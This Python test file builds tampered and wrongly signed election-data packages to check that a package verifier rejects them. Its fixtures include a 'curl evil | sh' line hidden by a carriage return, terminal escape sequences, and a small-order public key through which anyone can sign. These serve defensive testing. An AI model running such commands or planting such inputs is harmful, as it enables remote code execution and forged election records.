"""Packages that were changed after they were signed, or made wrongly by someone who has the key: PKG-01 to PKG-11."""
from artifacts import digest
from cases import tampered
from cases_valid import PACKAGE, trust_list
from package import INDEX, sign


def package(name, check, why, change=None, base="small", sealed=True, arguments=PACKAGE, undecided=(), files=None):
    """`sealed`: an insider makes digests and signatures fit again after the change."""

    def whole(made):
        if change:
            change(made)
        if change and sealed:
            made.seal()

    first = check if isinstance(check, str) else check[0]
    tampered(f"{first.lower()}-{name}", check, "package:" + base, why, whole, arguments=arguments, undecided=undecided, bare=False,
             files=files or {})


def add(path, data):
    return lambda made: made.files.update({path: data})


def twin(made):
    for folder, name in (("Elm", "deck.xml"), ("elm", "ballot-definition.xml")):
        made.files[f"data/{folder}/{name}"] = made.files.pop("data/" + name)


def link(made):
    made.links["data/latest.xml"] = "deck.xml"


def rename(old, new):
    def change(made):
        made.files[new] = made.files.pop(old)

    return change


package("file-beside", "PKG-01", "A file stands beside the tag files, where nothing else belongs.", add("README.txt", b"See data.\n"))
package("file-in-signatures", ("PKG-01", "PKG-05"), """A file in signatures/ that is no signature and no key. PKG-05 refuses it too: no signer of bag-info.txt
    has it.""", add("signatures/NOTE.txt", b"Signed.\n"))
package("case-twins", "PKG-01", "Two folders differ in upper and lower case only: on some file systems they are one.", twin)
package("link", "PKG-01", "A symbolic link: what it shows depends on the reader's machine.", link)
package("name", ("PKG-01", "PKG-04"), """A file name has a space. PKG-04 refuses it too: a manifest line cannot have such a path, so none lists the
    file.""", rename("data/deck.xml", "data/the deck.xml"))
package("too-deep", ("PKG-01", "PKG-04"), """A path has nine components, data included. PKG-04 refuses it too: a manifest line cannot have such a
    path.""", rename("data/deck.xml", "data/b/c/d/e/f/g/h/deck.xml"))


def oxum(made):
    made.set_label("Payload-Oxum", "1.2")
    made.seal(oxum=False)


def label(old, new):
    return lambda made: made.replace("bag-info.txt", old, new)


def date_first(made):
    label("Bagging-Date: 2020-10-01\n", "")(made)
    made.files["bag-info.txt"] = b"Bagging-Date: 2020-10-01\n" + made.files["bag-info.txt"]


package("oxum", "PKG-02", "Payload-Oxum is not the size of the payload; all else is re-made and signed.", oxum, sealed=False)
package("version", "PKG-02", "The package is of a version that does not exist yet.", label("Scrutineer-Package-Version: 1", "Scrutineer-Package-Version: 2"))
package("label-order", "PKG-02", "Two labels of bag-info.txt are exchanged.",
        date_first)
package("label-added", "PKG-02", "bag-info.txt has a label more.", label("Bag-Software-Agent", "Contact-Name: the clerk\nBag-Software-Agent"))
package("date", "PKG-02", "The Bagging-Date is no day of the calendar; with which those of the index cannot be compared (PKG-12).",
        lambda made: (label("2020-10-01", "2020-02-30")(made), made.seal(index=False)), sealed=False, undecided=("PKG-12",))
package("bagit-version", "PKG-02", "bagit.txt names another version of BagIt.", lambda made: made.replace("bagit.txt", "1.0", "0.97"))


def tag_manifest(change):
    """Changes the tag manifest and signs what it then says."""

    def whole(made):
        before = made.files["tagmanifest-sha256.txt"].decode()
        made.files["tagmanifest-sha256.txt"] = change(before).encode()
        assert before.encode() != made.files["tagmanifest-sha256.txt"]
        made.seal(tagmanifest=False)

    return whole


def lines(change):
    return lambda text: "".join(change(text.splitlines(keepends=True)))


UNSIGNED = " So nothing that is signed has the digest of bag-info.txt, and the signer's role there is anybody's word: PKG-11 is undecided."
def howto(data):
    return lambda made: made.files.update({"HOWTO-VERIFY.txt": data})


for name, why, data in (
    ("howto-escape", "HOWTO-VERIFY.txt clears the terminal on which it is shown.", b"\x1b[2J\x1b[HAll is well.\n"),
    ("howto-c1-control", "HOWTO-VERIFY.txt has a control character of two bytes, which some terminals obey.", "\u009b2J".encode()),
    ("howto-carriage-return", "Lines that a carriage return hides from who looks at them on a terminal.", b"curl evil | sh\rsha256sum -c\n"),
    ("howto-not-utf-8", "HOWTO-VERIFY.txt is not UTF-8.", b"\xff\xfe\n"),
    ("howto-long", "HOWTO-VERIFY.txt has a byte more than 64 KiB.", b"x" * 65537),
):
    package(name, "PKG-02", why, howto(data))
package("howto-changed", "PKG-03", "HOWTO-VERIFY.txt was changed after signing, to tell the reader to skip a step.",
        lambda made: made.replace("HOWTO-VERIFY.txt", "sha256sum -c --strict --quiet tagmanifest-sha256.txt", "true"), sealed=False)
package("howto-not-listed", "PKG-03", "The tag manifest does not list HOWTO-VERIFY.txt.", tag_manifest(lines(lambda x: x[1:])), sealed=False)
package("order", "PKG-03", "The lines of the tag manifest are not sorted.", tag_manifest(lines(lambda x: x[::-1])), sealed=False)
package("upper-case", "PKG-03", "The digests are in upper case." + UNSIGNED, tag_manifest(lambda text: "".join(
    line[:64].upper() + line[64:] for line in text.splitlines(keepends=True))), sealed=False, undecided=("PKG-11",))
package("one-space", "PKG-03", "One space between digest and path." + UNSIGNED, tag_manifest(lambda text: text.replace("  ", " ")),
        sealed=False, undecided=("PKG-11",))
package("payload-listed", "PKG-03", "The tag manifest lists a file of the payload too.", tag_manifest(
    lambda text: text + "0" * 64 + "  data/deck.xml\n"), sealed=False)


def manifest(change):
    """Changes the manifest; the insider makes the tag manifest and the signature fit."""

    def whole(made):
        made.files["manifest-sha256.txt"] = change(made.files["manifest-sha256.txt"].decode()).encode()
        made.seal(manifest=False)

    return whole


def deck_changed(made):
    made.replace("data/deck.xml", "<Rules Name=\"michigan\"", "<Rules Name=\"Michigan\"")


def forged_with_manifest(made):
    """Data and manifest fit each other again; tag manifest and signature are the old ones."""
    deck_changed(made)
    made.seal(tagmanifest=False, signatures=False)


INDEXED = " The index does not know such a deck either (PKG-12)."
package("data-changed", ("PKG-04", "PKG-12"), "The deck was changed after signing; its contents are still consistent." + INDEXED, deck_changed, sealed=False)
package("digest", "PKG-04", "The manifest has another digest for the deck, and is signed so.",
        manifest(lines(lambda x: [x[0], "0" * 64 + x[1][64:], *x[2:]])), sealed=False)
package("not-listed", "PKG-04", "The manifest does not list the deck, which then nobody signed.", manifest(lines(lambda x: x[:1] + x[2:])), sealed=False)
package("listed-but-absent", "PKG-04", "The manifest lists a file that is not there.",
        manifest(lambda text: text + digest(b"") + "  data/z.xml\n"), sealed=False)
package("order", "PKG-04", "The lines of the manifest are not sorted.", manifest(lines(lambda x: x[::-1])), sealed=False)
package("data-and-manifest-changed", "PKG-03", """Data, index and manifest were changed together after signing: only the digest of the manifest in the signed
    tag manifest shows it.""", forged_with_manifest, sealed=False)


def no_signature(made):
    del made.files["signatures/test-other.sig"]


def second_signer(change, role="observer"):
    """A package with a second signer whom the reader does not know, so that PKG-11 holds whatever becomes of that one."""

    def whole(made):
        made.add_signer("test-other", role)
        made.seal()
        change(made)

    return whole


def bit(made):
    signature = bytearray(made.files["signatures/test-other.sig"])
    signature[5] ^= 1
    made.files["signatures/test-other.sig"] = bytes(signature)


def short(made):
    made.files["signatures/test-other.sig"] = made.files["signatures/test-other.sig"][:63]


def over_manifest(made):
    made.files["signatures/test-other.sig"] = sign(made.keys / "test-other.key", made.files["manifest-sha256.txt"])


def stranger(made):
    made.files["signatures/stranger.pub"] = (made.keys / "test-other.pub").read_bytes()
    made.files["signatures/stranger.sig"] = sign(made.keys / "test-other.key", made.files["tagmanifest-sha256.txt"])


def key_replaced(made):
    made.files["signatures/test-other.pub"] = (made.keys / "test-clerk.pub").read_bytes()


SECOND = " The reader trusts the first signer, so PKG-11 holds; the second is whom this is about."
package("signature-bit", "PKG-05", "One bit of a signature is changed." + SECOND, second_signer(bit), sealed=False)
package("signature-short", "PKG-05", "A signature has 63 bytes." + SECOND, second_signer(short), sealed=False)
package("signature-absent", "PKG-05", "A signature is missing." + SECOND, second_signer(no_signature), sealed=False)
package("signature-over-manifest", "PKG-05", "A signature is over manifest-sha256.txt and not over the tag manifest." + SECOND,
        second_signer(over_manifest), sealed=False)
package("key-replaced", "PKG-05", "The public key is not the one whose fingerprint bag-info.txt has." + SECOND, second_signer(key_replaced), sealed=False)


def same_key(made):
    line = next(line for line in made.files["bag-info.txt"].splitlines() if line.startswith(b"Scrutineer-Signer: test-clerk "))
    made.files["bag-info.txt"] += line.replace(b"test-clerk election-official", b"second observer") + b"\n"
    made.files["signatures/second.pub"] = made.files["signatures/test-clerk.pub"]
    made.signers["second"] = made.signers["test-clerk"]


def same_name(made):
    line = made.files["bag-info.txt"].splitlines(keepends=True)[-1]
    made.files["bag-info.txt"] += line


package("same-key", "PKG-05", "Two signers have one key: one person signs as if they were two.", same_key)
package("same-name", "PKG-05", "One signer is named twice.", same_name)
package("signer-not-named", "PKG-05", "A valid signature and key of someone whom bag-info.txt does not name.", stranger, sealed=False)


def note(made):
    made.files["data/notes.txt"] = b"for the file\n"


def other_election(made):
    made.set_label("Scrutineer-Election", "Another Election")


def role(made):
    made.replace("bag-info.txt", "test-clerk election-official", "test-clerk observer")


def proof_elsewhere(made):
    made.files["data/more/proof.drat"] = made.files["data/proof.drat"]


package("other-file", "PKG-06", "A file of the payload is no artifact and no proof, so nothing checks it.", note)
package("other-election", "PKG-06", "The package names another election than its artifacts.", other_election)
package("role", ("PKG-06", "PKG-11"), """The signer signs as observer; the artifacts need an election-official. So nobody whom the reader trusts has
    signed as that (PKG-11).""", role)


def no_artifact(made):
    for path in made.payload():
        del made.files[path]


package("no-artifact", "PKG-06", """data/ holds nothing at all. PKG-11 is undecided: no artifact says in which role it is to be signed; and PKG-12: there
    is no index.""", no_artifact, undecided=("PKG-11", "PKG-12"))
package("proof-in-other-folder", "PKG-06", "A proof file lies in a folder where no artifact names it.", proof_elsewhere, base="search")


def superseded(made):
    """A second version of the deck that says it replaces the first, both published."""
    newer = made.files["data/deck.xml"].decode().replace(
        "  </Header>", f'    <Supersedes SHA256="{digest(made.files["data/deck.xml"])}"/>\n  </Header>')
    made.files["data/deck-2.xml"] = newer.encode()


def no_definition(made):
    del made.files["data/ballot-definition.xml"]


def second(path, copy):
    """The same artifact as made by other software, so that its digest is another one. No index could list both (IDX-02), so there is none."""

    def change(made):
        made.indexed = False
        made.files.pop(INDEX)
        made.files[copy] = made.files[path].replace(b'<Software Name="', b'<Software Name="Other ')
        assert made.files[copy] != made.files[path]

    return change


package("two-definitions", "PKG-07", "A second ballot definition lies beside the one that the deck rests on.",
        second("data/ballot-definition.xml", "data/definition.xml"), undecided=("PKG-12",))
package("two-decks-of-a-style", "PKG-07", "Two test decks for one ballot style: which of them is the deck that was run?", second("data/deck.xml", "data/deck-2.xml"),
        undecided=("PKG-12",))
def supersedes_another_kind(made):
    """The deck says that it replaces the ballot definition it rests on."""
    made.files["data/deck.xml"] = made.files["data/deck.xml"].replace(
        b"  </Header>", f'    <Supersedes SHA256="{digest(made.files["data/ballot-definition.xml"])}"/>\n  </Header>'.encode())


package("supersedes-another-kind", ("PKG-07", "PKG-12"), """A deck supersedes a ballot definition: one kind cannot replace another, and an index
    cannot say so (PKG-12).""", supersedes_another_kind)
package("superseded", ("PKG-07", "PKG-12"), "The package has a deck and a second one that replaces it, as its index says too (PKG-12).", superseded)
package("definition-absent", "PKG-07", """The deck rests on a ballot definition that is not in the package. LAT-10 is undecided without it.""",
        no_definition, undecided=("LAT-10",))

def resigned(made):
    deck_changed(made)
    made.resign("test-other", "election-official")
    made.seal()


TRUST = "--trust trust.xml package"
package("other-key", "PKG-11", "The reader trusts another key than the one that signed.", arguments="--key ../../keys/test-other.pub package")
package("resigned", "PKG-11", """Someone else changed the deck's rules and made digests, fingerprint and signature anew with a key of their own: all
    is consistent, but it is not the key that the reader trusts.""", arguments=PACKAGE, sealed=False, change=resigned)


def apart(made):
    """The clerk's key is the reader's, but it signs as observer; a stranger signs as election-official."""
    role(made)
    made.add_signer("test-other", "election-official")


package("trust-and-role-apart-key", "PKG-11", """The key that the reader trusts signs as observer, and another key as election-official, which is the role
    that the artifacts need: nobody has both.""", apart)
package("trust-and-role-apart", "PKG-11", "The same, and the list has the first key as that of an observer.", apart, arguments=TRUST,
        files={"trust.xml": trust_list(role="observer")})
for name, why, row in (
    ("not-on-list", "The list of trusted keys has another key.", {"fingerprint": "@test-other@"}),
    ("other-role", "The key is trusted in another role than the one it signs in.", {"role": "auditor"}),
    ("other-election", "The key is trusted for another election.", {"election": "Another Election"}),
    ("revoked", "The key is revoked.", {"revoked": "true"}),
    ("before-period", "The package was made before the key's period.", {"first": "2020-10-02"}),
    ("after-period", "The package was made after the key's period.", {"last": "2020-09-30"}),
):
    package(name, "PKG-11", why, arguments=TRUST, files={"trust.xml": trust_list(**row)})

for name, why, arguments, files in (
    ("trust-list", "The trust list is not valid against its schema.", TRUST,
     {"trust.xml": trust_list().replace(' Revoked="false"', "")}),
    ("trust-list-cdata", "A CDATA section stands in the trust list, which the schema alone might let pass.", TRUST,
     {"trust.xml": trust_list().replace("  <Key", "<![CDATA[ ]]>  <Key")}),
    ("key-of-small-order", "The key given with --key is the neutral element, by which anybody can sign.", "--key key.pub package",
     {"key.pub": "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n-----END PUBLIC KEY-----\n"}),
    ("key", "The file given with --key is no key.", "--key key.pub package", {"key.pub": "the clerk's\n"}),
    ("no-such-file", "A path that cannot be opened.", "--key ../../keys/test-clerk.pub package absent.xml", {}),
):
    tampered("usage-" + name, (), "package:small", why + " That ends the run with exit status 2 (section 8).", arguments=arguments, bare=False,
             files=files, usage=True)
